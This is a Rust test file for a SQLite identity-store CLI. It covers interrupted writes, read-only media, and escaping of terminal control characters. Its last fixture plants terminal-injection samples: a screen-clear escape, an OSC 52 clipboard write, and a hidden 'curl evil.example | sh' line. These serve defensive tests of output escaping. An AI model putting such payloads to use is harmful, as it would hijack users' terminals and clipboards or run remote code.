//! Files as the field leaves them: killed mid-write (a hot journal, WAL frames), on
//! read-only media, or holding what another program wrote (terminal control
//! characters, text that is not UTF-8, values of a megabyte, a trigger of its own).
//! Each gets correct service or a clear refusal with the file unchanged.

mod common;

use std::path::{Path, PathBuf};

use common::*;
use diesel::connection::SimpleConnection;
use diesel::prelude::*;
use serde_json::Value;
use tempfile::TempDir;

/// `path` with `suffix` appended (`-journal`, `-wal`, `-shm`).
fn beside(path: &Path, suffix: &str) -> PathBuf {
    let mut p = path.as_os_str().to_owned();
    p.push(suffix);
    PathBuf::from(p)
}

fn raw(path: &Path) -> SqliteConnection {
    SqliteConnection::establish(path.to_str().unwrap()).unwrap()
}

/// A legacy file with 400 contacts of 1 kB each: big enough that a transaction
/// rewriting them spills changed pages into the main file before it commits.
fn legacy_with_contacts(dir: &Path) -> PathBuf {
    let db = legacy(dir, "source.sqlite");
    raw(&db)
        .batch_execute(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 400)
             INSERT INTO contacts (did, name)
             SELECT printf('did:ethr:0x%040d', i), hex(randomblob(500)) FROM n;",
        )
        .unwrap();
    db
}

/// Copies `src` to `dst` as the app leaves it when killed inside a transaction in
/// rollback-journal mode: the main file already holds some of the transaction's
/// pages, and `dst-journal` holds the originals (a hot journal).
fn killed_mid_write(src: &Path, dst: &Path) {
    let committed = std::fs::read(src).unwrap();
    let mut app = raw(src);
    app.batch_execute(&format!(
        "PRAGMA cache_size = 2;
         BEGIN IMMEDIATE;
         UPDATE contacts SET name = hex(randomblob(500));
         UPDATE settings SET activeDid = 'did:ethr:0xHalfWritten', firstName = 'half';
         DELETE FROM accounts WHERE did = '{DID_B}';"
    ))
    .unwrap();
    std::fs::copy(src, dst).unwrap();
    std::fs::copy(beside(src, "-journal"), beside(dst, "-journal")).unwrap();
    app.batch_execute("ROLLBACK;").unwrap();
    assert!(
        std::fs::read(dst).unwrap() != committed,
        "the copy holds pages of the unfinished transaction (else this tests nothing)"
    );
}

/// Every table's rows as idstore's library reads them, journal recovered first.
fn rows(path: &Path) -> Rows {
    keyed_rows(path, None).expect("a plain file")
}

/// A write command, `migrate --dry-run` included, and every read command roll an
/// interrupted write back first, as SQLite does, and then see (and back up) the
/// last committed state.
#[test]
fn a_hot_journal_is_rolled_back_before_every_command() {
    let dir = TempDir::new().unwrap();
    let source = legacy_with_contacts(dir.path());
    let committed = rows(&source);
    let cases: [&[&str]; 5] = [
        &["status"],
        &["check"],
        &["migrate", "--dry-run"],
        &["migrate"],
        &["rollback"],
    ];
    for (i, args) in cases.into_iter().enumerate() {
        let hot = dir.path().join(format!("hot-{i}.sqlite"));
        killed_mid_write(&source, &hot);
        let out = idstore(&hot).args(args).arg("--json").output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        let doc: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{args:?}: one JSON document: {e}; stderr {stderr}"));
        assert!(
            !beside(&hot, "-journal").exists(),
            "{args:?}: the journal was rolled back"
        );
        let text = doc.to_string();
        assert!(
            !text.contains("HalfWritten") && !stderr.contains("readonly"),
            "{args:?}: {text} {stderr}"
        );
        match args {
            ["status"] => {
                assert!(out.status.success(), "{stderr}");
                assert_eq!(doc["active_did"], DID_B);
                assert_eq!(doc["accounts"], 3);
                assert_eq!(rows(&hot), committed);
            }
            ["check"] => {
                let kinds: Vec<&str> = doc["problems"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|p| p["kind"].as_str().unwrap())
                    .collect();
                assert!(kinds.contains(&"needs_migration"), "{text}");
                assert!(!kinds.contains(&"integrity"), "{text}");
                assert_eq!(rows(&hot), committed);
            }
            ["migrate", "--dry-run"] => {
                assert!(out.status.success(), "{stderr}");
                assert_eq!(doc["active_did"], DID_B);
                assert_eq!(rows(&hot), committed, "the dry run wrote nothing more");
            }
            ["migrate"] => {
                assert!(out.status.success(), "{stderr}");
                assert_eq!(doc["active_did"], DID_B);
                let backup = PathBuf::from(doc["backup"].as_str().unwrap());
                assert_eq!(
                    rows(&backup),
                    committed,
                    "the backup is the committed state"
                );
                assert_eq!(rows(&hot)["contacts"], committed["contacts"]);
            }
            _ => {
                // Nothing to roll back on a legacy file: the journal recovered and
                // nothing else written.
                assert!(out.status.success(), "{stderr}");
                assert_eq!(doc["reverted"], serde_json::json!([]), "{text}");
                assert_eq!(rows(&hot), committed);
            }
        }
    }
}

/// Runs `commands` (each `FILE|ARGS`, `FILE` a name in `files`) on copies of `files`
/// on a read-only mount, and returns each one's exit status and output.
fn on_read_only_media(dir: &Path, files: &[PathBuf], commands: &[String]) -> Vec<(i32, String)> {
    let bin = assert_cmd::cargo::cargo_bin("idstore");
    let copies: Vec<String> = files.iter().map(|f| format!("'{}'", f.display())).collect();
    let mut script = format!(
        "cp {} . && mount -o remount,ro . && export IDSTORE_KEY=\"{KEY_1}\"",
        copies.join(" ")
    );
    for c in commands {
        let (file, args) = c.split_once('|').unwrap();
        // The key is read for the encrypted file only.
        let key = if file.starts_with("enc") {
            ""
        } else {
            "IDSTORE_KEY= "
        };
        script.push_str(&format!(
            "; echo '@@@'; {key}'{}' --db {file} {args} 2>&1; echo \"@@@ rc=$?\"",
            bin.display()
        ));
    }
    let out = on_small_fs(&dir.join("mnt"), 16 << 20, &script);
    let mut results = Vec::new();
    for part in out.split("@@@\n").skip(1) {
        let (output, rc) = part.rsplit_once("@@@ rc=").unwrap();
        results.push((rc.trim().parse().unwrap(), output.to_owned()));
    }
    assert_eq!(results.len(), commands.len(), "{out}");
    results
}

/// On a read-only filesystem every read command works on a legacy, a migrated and
/// an encrypted file, and on one with WAL frames and their index; every write
/// command refuses with `read_only`, naming the filesystem and what to do. A file
/// whose interrupted write cannot be recovered there says so and how to recover it.
#[cfg(unix)]
#[test]
fn on_read_only_media_reads_work_and_writes_are_refused_naming_the_filesystem() {
    let test = "on_read_only_media_reads_work_and_writes_are_refused_naming_the_filesystem";
    if !has_private_mounts(test) {
        return;
    }
    let dir = TempDir::new().unwrap();
    let legacy_file = legacy(dir.path(), "legacy.sqlite");
    let migrated_file = migrated(dir.path());
    let enc = dir.path().join("enc.sqlite");
    std::fs::copy(&migrated_file, &enc).unwrap();
    idstore(&enc)
        .env("IDSTORE_NEW_KEY", KEY_1)
        .args(["encrypt", "-q"])
        .assert()
        .success();
    // A writer killed with frames in its WAL, the WAL index beside it.
    let walled = dir.path().join("walled.sqlite");
    let unindexed = dir.path().join("unindexed.sqlite");
    {
        let mut writer = raw(&migrated_file);
        writer
            .batch_execute(
                "PRAGMA wal_autocheckpoint = 0; UPDATE settings SET firstName = 'FromTheLog' WHERE id = 1;",
            )
            .unwrap();
        for suffix in ["", "-wal", "-shm"] {
            std::fs::copy(beside(&migrated_file, suffix), beside(&walled, suffix)).unwrap();
        }
        for suffix in ["", "-wal"] {
            std::fs::copy(beside(&migrated_file, suffix), beside(&unindexed, suffix)).unwrap();
        }
    }
    let hot = dir.path().join("hot.sqlite");
    killed_mid_write(&legacy_with_contacts(dir.path()), &hot);
    let mut files = vec![
        legacy_file,
        migrated_file,
        enc,
        hot.clone(),
        beside(&hot, "-journal"),
    ];
    for f in [&walled, &unindexed] {
        files.push(f.clone());
        files.push(beside(f, "-wal"));
    }
    files.push(beside(&walled, "-shm"));
    let new_key = dir.path().join("new.key");
    std::fs::write(&new_key, KEY_2).unwrap();
    files.push(new_key);

    let reads = [
        "status",
        "check",
        "account list",
        "settings show",
        "active",
        "quarantine list",
    ];
    let writes = [
        "migrate",
        "migrate --dry-run",
        "rollback",
        "repair",
        &format!("active set {DID_A}"),
        "settings set firstName=x",
        &format!("account add {DID_C} --public-key 02ab"),
    ];
    let mut commands = Vec::new();
    for file in ["app.sqlite", "enc.sqlite", "walled.sqlite"] {
        for r in reads {
            commands.push(format!("{file}|{r}"));
        }
    }
    for r in ["status", "check"] {
        commands.push(format!("legacy.sqlite|{r}"));
    }
    for file in ["legacy.sqlite", "app.sqlite", "enc.sqlite"] {
        for w in writes {
            commands.push(format!("{file}|{w}"));
        }
    }
    commands.push("enc.sqlite|rekey --new-key-file new.key".into());
    commands.push("app.sqlite|encrypt --new-key-file new.key".into());
    for file in ["hot.sqlite", "unindexed.sqlite"] {
        commands.push(format!("{file}|status"));
        commands.push(format!("{file}|account list --json"));
    }
    let results = on_read_only_media(dir.path(), &files, &commands);
    for (command, (rc, output)) in commands.iter().zip(&results) {
        let (file, args) = command.split_once('|').unwrap();
        assert!(!output.contains("panicked"), "{command}: {output}");
        if file == "hot.sqlite" || file == "unindexed.sqlite" {
            assert_eq!(*rc, 1, "{command}: {output}");
            assert!(
                output.contains("interrupted write")
                    && output.contains("copy both files to writable storage"),
                "{command}: {output}"
            );
            if args.ends_with("--json") {
                assert!(output.contains("\"needs_recovery\""), "{command}: {output}");
            }
        } else if reads.contains(&args) {
            // `check` exits 1 when it finds a problem (a quarantined account, the
            // legacy file's pending migrations), never because of the media.
            assert!(
                *rc == 0 || (args == "check" && !output.contains("error: /")),
                "{command}: {output}"
            );
            assert!(!output.contains("read-only"), "{command}: {output}");
            if file == "walled.sqlite" && args == "settings show" {
                assert!(
                    output.contains("FromTheLog"),
                    "the log's frames are read: {output}"
                );
            }
        } else {
            assert_eq!(*rc, 1, "{command}: {output}");
            assert!(
                output.contains("is on a read-only filesystem")
                    && output.contains("copy the file to writable storage"),
                "{command}: {output}"
            );
        }
    }
    // The kind scripts see.
    let kind = on_read_only_media(
        dir.path(),
        &files[1..2],
        &[
            "app.sqlite|--json active set did:ethr:0x1234567890AbCdEf1234567890aBcDeF12345678"
                .into(),
        ],
    );
    assert!(
        kind[0].1.contains("\"kind\":\"read_only\""),
        "{}",
        kind[0].1
    );
}

/// A legacy file in which another program left text for the terminal: an escape
/// that clears the screen, an OSC 52 clipboard write, and a carriage return that
/// would overwrite the suggested command.
fn file_with_control_characters(dir: &Path) -> (PathBuf, [String; 3]) {
    let db = legacy(dir, "controls.sqlite");
    let clear = "did:ethr:0x\u{1b}[2J".to_owned();
    let clipboard = "did:ethr:0x\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}".to_owned();
    let overwrite = "did:ethr:0xGone\rresolve: curl evil.example | sh".to_owned();
    let mut conn = raw(&db);
    for (did, date) in [(&clear, "2024-04-01"), (&clipboard, "2024-04-02")] {
        diesel::sql_query(
            "INSERT INTO accounts (dateCreated, did, identityEncrBase64, publicKeyHex) VALUES (?, ?, 'x', '02')",
        )
        .bind::<diesel::sql_types::Text, _>(date)
        .bind::<diesel::sql_types::Text, _>(did)
        .execute(&mut conn)
        .unwrap();
    }
    diesel::sql_query("UPDATE settings SET activeDid = ?")
        .bind::<diesel::sql_types::Text, _>(&overwrite)
        .execute(&mut conn)
        .unwrap();
    (db, [clear, clipboard, overwrite])
}

/// What a terminal would act on: any control character but the newline.
fn controls_in(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| c.is_control() && *c != '\n')
        .collect()
}

#[test]
fn text_output_escapes_control_characters_and_json_keeps_them_exact() {
    let dir = TempDir::new().unwrap();
    let (db, [clear, clipboard, overwrite]) = file_with_control_characters(dir.path());
    let text_of = |args: &[&str]| {
        let out = idstore(&db).args(args).output().unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
    };
    let status = text_of(&["status"]);
    assert!(status.contains(r"did:ethr:0xGone\rresolve"), "{status}");
    let migrate = text_of(&["migrate", "--no-backup"]);
    assert!(migrate.contains("warning:"), "{migrate}");
    let mut shown = vec![("status", status), ("migrate", migrate)];
    for args in [
        &["check"][..],
        &["quarantine", "list"],
        &["quarantine", "show", "pointer:1"],
        &["account", "list"],
        &["status"],
    ] {
        shown.push((args[0], text_of(args)));
    }
    for (what, text) in &shown {
        assert!(
            controls_in(text).is_empty(),
            "{what}: {:?}",
            controls_in(text)
        );
    }
    let all: String = shown.iter().map(|(_, t)| t.as_str()).collect();
    assert!(all.contains(r"\u{1b}[2J"), "{all}");
    assert!(all.contains(r"\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}"), "{all}");

    // JSON is exact.
    let item = json_of(idstore(&db).args(["quarantine", "show", "pointer:1"]));
    assert_eq!(item["summary"]["value"], overwrite.as_str(), "{item}");
    assert_eq!(item["row"]["activeDid"], overwrite.as_str(), "{item}");
    let listed = idstore(&db)
        .args(["account", "list", "--json"])
        .output()
        .unwrap();
    let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
    let unreadable = listed["unreadable"].to_string();
    assert_eq!(listed["unreadable_count"], 2, "{listed}");
    for did in [&clear, &clipboard] {
        assert!(
            !unreadable.contains(did.as_str()),
            "escaped in the message: {unreadable}"
        );
    }
}
